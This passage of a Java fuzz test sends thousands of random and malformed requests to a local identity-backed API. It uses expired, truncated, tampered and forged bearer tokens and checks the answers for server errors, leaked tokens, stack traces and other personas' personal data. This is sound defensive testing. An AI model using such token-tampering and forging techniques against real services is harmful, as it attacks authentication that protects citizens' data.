    // ---- running them

    /** Tokens minted through the demo API once, by kind, persona and level. */
    final Map<String, String> minted = new ConcurrentHashMap<>();

    String minted(TokenKind kind, String persona, String loa) {
        return minted.computeIfAbsent(kind + "|" + persona + "|" + loa, k -> {
            Map<String, Object> request = new LinkedHashMap<>(Map.of("persona", persona, "loa", loa));
            if (kind == TokenKind.EXPIRED) {
                request.put("expiresInSeconds", -600);
            }
            if (kind == TokenKind.WRONG_AUDIENCE) {
                request.put("audience", "another-gateway");
            }
            return token(request);
        });
    }

    /** The Authorization header value, or null. */
    String authorization(TokenSpec t) {
        return switch (t.kind()) {
            case NONE -> null;
            case GARBAGE -> "Bearer " + t.text();
            case OTHER_SCHEME -> t.text();
            case VALID, EXPIRED, WRONG_AUDIENCE -> "Bearer " + minted(t.kind(), t.persona(), t.loa());
            case TRUNCATED -> {
                String token = minted(TokenKind.VALID, t.persona(), "LoA2");
                yield "Bearer " + token.substring(0, Math.max(1, Math.min(token.length() - 1, (int) (token.length() * t.at()))));
            }
            case TAMPERED -> {
                // inside the signed part (header.payload): a change in the signature's last character may leave its bytes unchanged
                String token = minted(TokenKind.VALID, t.persona(), "LoA2");
                int signed = token.lastIndexOf('.');
                int i = (int) (signed * t.at());
                if (token.charAt(i) == '.') {
                    i++;
                }
                char replacement = t.text().charAt(0) == token.charAt(i) ? (token.charAt(i) == 'A' ? 'B' : 'A') : t.text().charAt(0);
                yield "Bearer " + token.substring(0, i) + replacement + token.substring(i + 1);
            }
            case CUSTOM -> {
                Map<String, Object> claims = new LinkedHashMap<>(t.claims());
                String aud = (String) claims.remove("aud");
                long lifetime = ((Number) claims.remove("lifetime")).longValue();
                claims.putIfAbsent("HoVaTen", "NGƯỜI KIỂM THỬ");
                yield "Bearer " + idp.sign(claims, aud, lifetime);
            }
        };
    }

    record Outcome(Case c, int status, String contentType, String body, String requestId, String violation, String unsent) { }

    static final HttpClient CLIENT = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(5)).build();

    Outcome run(Case c) {
        String auth = authorization(c.token());
        int status;
        String contentType;
        String body;
        String requestId;
        if (c.endpoint() == Endpoint.RAW_TARGET) {
            List<String[]> headers = new ArrayList<>();
            headers.add(new String[] {"Content-Type", c.contentType()});
            if (auth != null) {
                headers.add(new String[] {"Authorization", auth});
            }
            HostileHttp.Raw raw = HostileHttp.send(port, c.method(), c.path(), headers, c.body().getBytes(StandardCharsets.UTF_8));
            status = raw.status();
            contentType = raw.contentType();
            body = raw.body();
            requestId = raw.header("X-Request-Id");
        } else {
            URI uri;
            try {
                uri = URI.create("http://localhost:" + port + c.path());
            } catch (IllegalArgumentException e) {
                return new Outcome(c, -1, "", "", null, null, "not a URI the client can send");
            }
            HttpRequest.Builder request = HttpRequest.newBuilder(uri).timeout(Duration.ofSeconds(30))
                    .method(c.method(), NO_BODY.equals(c.body()) ? HttpRequest.BodyPublishers.noBody()
                            : HttpRequest.BodyPublishers.ofString(c.body()));
            if (auth != null) {
                request.header("Authorization", auth);
            }
            if (c.contentType() != null) {
                request.header("Content-Type", c.contentType());
            }
            c.headers().forEach(h -> request.header(h[0], h[1]));
            try {
                HttpResponse<String> response = CLIENT.send(request.build(), HttpResponse.BodyHandlers.ofString());
                status = response.statusCode();
                contentType = response.headers().firstValue("Content-Type").orElse("");
                body = response.body();
                requestId = response.headers().firstValue("X-Request-Id").orElse(null);
            } catch (IllegalArgumentException e) {
                return new Outcome(c, -1, "", "", null, null, "a header the client refuses to send");
            } catch (Exception e) {
                return new Outcome(c, -2, "", "", null, "no answer: " + e, null);
            }
        }
        return judge(c, status, contentType, body, requestId);
    }

    Outcome judge(Case c, int status, String contentType, String body, String requestId) {
        List<String> violations = new ArrayList<>();
        JsonNode json = null;
        try {
            json = body == null || body.isBlank() ? null : JSON.readTree(body);
        } catch (Exception e) {
            // judged below where JSON is required
        }
        String type = json != null && json.path("type").isTextual() ? json.get("type").asText() : "";

        if (status >= 500) {
            violations.add("HTTP " + status + (type.isEmpty() ? "" : " " + type));
        }
        if (status >= 400 && status < 500) {
            List<String> problems = new ArrayList<>();
            if (!contentType.startsWith("application/problem+json")) {
                problems.add("content type " + contentType);
            }
            if (json == null || !json.isObject()) {
                problems.add("body is not a JSON object");
            } else {
                if (type.isBlank()) {
                    problems.add("no type");
                }
                if (json.path("title").asText("").isBlank()) {
                    problems.add("no title");
                }
                if (!json.path("status").isInt() || json.get("status").asInt() != status) {
                    problems.add("status " + json.path("status") + " is not " + status);
                }
                if (!json.path("detail").isTextual()) {
                    problems.add("no detail");
                }
            }
            if (!problems.isEmpty()) {
                violations.add("not a problem document: " + problems);
            }
            if (body != null && (body.contains("Exception") || body.contains("\tat ") || body.contains("eyJ"))) {
                violations.add("a stack trace or a token in the answer");
            }
        }
        // personal data
        if (body != null && !body.isEmpty()) {
            String request = requestText(c);
            String caller = c.token().bad() ? null : c.token().caller();
            Set<String> allowedPersonas = new java.util.HashSet<>();
            if (status == 200 && (c.endpoint() == Endpoint.PREFILL || c.endpoint() == Endpoint.OTHER_METHOD) && caller != null) {
                allowedPersonas.add(caller);
                allowedPersonas.addAll(MAY_SEE.getOrDefault(caller, Set.of()));
            } else if (status == 200 && c.endpoint() == Endpoint.DISCLOSURES && caller != null) {
                allowedPersonas.add(caller);
            }
            for (Persona p : PERSONAS) {
                if (allowedPersonas.contains(p.id())) {
                    continue;
                }
                for (String datum : p.personalData()) {
                    if (body.contains(datum) && !request.contains(datum)) {
                        violations.add("carries a datum of persona " + p.id() + " (caller " + caller + ")");
                    }
                }
            }
        }
        // a bad token never gets past authentication on a protected endpoint
        if (c.token().bad() && (c.endpoint() == Endpoint.PREFILL || c.endpoint() == Endpoint.DISCLOSURES)
                && !(status == 400 || status == 401 || status == 413)) {
            violations.add("a bad token (" + c.token().kind() + ") answered " + status);
        }
        String violation = violations.isEmpty() ? null : String.join("; ", violations);
        return new Outcome(c, status, contentType, body, requestId, violation, null);
    }

    static String requestText(Case c) {
        StringBuilder s = new StringBuilder(c.method()).append(' ').append(c.path()).append(' ').append(percentDecode(c.path()));
        c.headers().forEach(h -> s.append(' ').append(h[1]));
        if (!NO_BODY.equals(c.body())) {
            s.append(' ').append(c.body());
            try {
                // what the body says once JSON escapes are undone
                s.append(' ').append(JSON.readTree(c.body()).toString());
                JSON.readTree(c.body()).findValuesAsText("citizenId").forEach(v -> s.append(' ').append(v));
            } catch (Exception e) {
                // not JSON: the raw text is all there is
            }
        }
        return s.toString();
    }

    static String percentDecode(String s) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (int i = 0; i < s.length(); i++) {
            char c = s.charAt(i);
            if (c == '%' && i + 2 < s.length() && isHex(s.charAt(i + 1)) && isHex(s.charAt(i + 2))) {
                out.write(Integer.parseInt(s.substring(i + 1, i + 3), 16));
                i += 2;
            } else {
                out.writeBytes(String.valueOf(c).getBytes(StandardCharsets.UTF_8));
            }
        }
        return out.toString(StandardCharsets.UTF_8);
    }

    static boolean isHex(char c) {
        return Character.digit(c, 16) >= 0;
    }

    @Test
    void thousandsOfRandomRequestsGetNoServerErrorNoLeakAndOnlyProblemDocuments() throws Exception {
        long started = System.nanoTime();
        List<Case> drawn = draw(caseArb(), SEED, REQUESTS);
        List<Case> cases = new ArrayList<>(drawn.size());
        for (int i = 0; i < drawn.size(); i++) {
            Case c = drawn.get(i);
            cases.add(new Case(i, c.endpoint(), c.method(), c.path(), c.token(), c.contentType(), c.headers(), c.body()));
        }
        // every valid persona token minted up front, so that minting does not race the run
        for (Persona p : PERSONAS) {
            for (String loa : List.of("LoA1", "LoA2")) {
                minted(TokenKind.VALID, p.id(), loa);
            }
        }
        if (!listening) {
            mocks.addMockServiceRequestListener((request, response) -> {
                Set<String> ids = registryRequestIds;
                String id = request.getHeader("X-Request-Id");
                if (ids != null && id != null) {
                    ids.add(id);
                }
            });
            listening = true;
        }
        registryRequestIds = ConcurrentHashMap.newKeySet();
        List<Outcome> outcomes = new ArrayList<>();
        Set<String> registryIds;
        ExecutorService pool = Executors.newFixedThreadPool(THREADS);
        try {
            List<Future<Outcome>> futures = new ArrayList<>();
            for (Case c : cases) {
                futures.add(pool.submit(() -> run(c)));
            }
            for (Future<Outcome> f : futures) {
                outcomes.add(f.get(60, TimeUnit.SECONDS));
            }
            Thread.sleep(2_000); // registry calls still under way are heard before the check
            registryIds = Set.copyOf(registryRequestIds);
        } finally {
            pool.shutdownNow();
            registryRequestIds = null;
            // leave no breaker open behind for the test classes that run next
            for (String source : SOURCES) {
                fetcher.breaker(source).reset();
            }
        }

        List<String> violations = new ArrayList<>();
        for (Outcome o : outcomes) {
            if (o.violation() != null) {
                violations.add(o.violation() + " <- " + o.c().describe() + " -> " + o.status() + " " + o.contentType() + " "
                        + mask(HostileHttp.abbreviate(o.body())));
            }
            boolean refused = o.status() >= 400 && o.status() < 500 && !o.body().contains("/problems/relation-not-held");
            boolean badToken = o.c().token().bad();
            if ((refused || badToken) && o.requestId() != null && registryIds.contains(o.requestId())) {
                violations.add("reached a registry although refused with " + o.status() + " <- " + o.c().describe());
            }
        }
        long sent = outcomes.stream().filter(o -> o.status() > 0).count();
        Map<Integer, Long> statuses = outcomes.stream().filter(o -> o.status() > 0)
                .collect(Collectors.groupingBy(Outcome::status, TreeMap::new, Collectors.counting()));
        Map<String, Long> byEndpoint = outcomes.stream().filter(o -> o.status() > 0)
                .collect(Collectors.groupingBy(o -> o.c().endpoint() + " " + o.status(), TreeMap::new, Collectors.counting()));
        Map<String, Long> unsent = outcomes.stream().filter(o -> o.status() == -1)
                .collect(Collectors.groupingBy(Outcome::unsent, TreeMap::new, Collectors.counting()));
        Map<String, Long> problemTypes = outcomes.stream().filter(o -> o.status() >= 400)
                .map(o -> o.body().replaceAll("(?s).*\"type\"\\s*:\\s*\"[^\"]*/problems/([a-z-]+)\".*", "$1"))
                .filter(t -> t.matches("[a-z-]+"))
                .collect(Collectors.groupingBy(Function.identity(), TreeMap::new, Collectors.counting()));
        long seconds = TimeUnit.NANOSECONDS.toSeconds(System.nanoTime() - started);
        System.out.println("fuzz: seed " + SEED + ", " + sent + " requests answered of " + cases.size() + " drawn in " + seconds + " s, "
                + THREADS + " threads");
        System.out.println("fuzz: statuses " + statuses);
        System.out.println("fuzz: who may see whom " + MAY_SEE);
        System.out.println("fuzz: by endpoint " + byEndpoint);
        System.out.println("fuzz: problem types " + problemTypes);
        System.out.println("fuzz: registry calls heard under " + registryIds.size() + " request ids");
        System.out.println("fuzz: not sendable by java.net.http " + unsent);
        violations.stream().limit(40).forEach(v -> System.out.println("fuzz: VIOLATION " + v));

        assertThat(sent).as("requests answered").isGreaterThanOrEqualTo(3_000);
        assertThat(statuses.getOrDefault(200, 0L)).as("prefills that went through").isGreaterThan(100);
        assertThat(violations.stream().limit(30).toList()).as(violations.size() + " violations (seed " + SEED + "), the first ones")
                .isEmpty();
    }
}
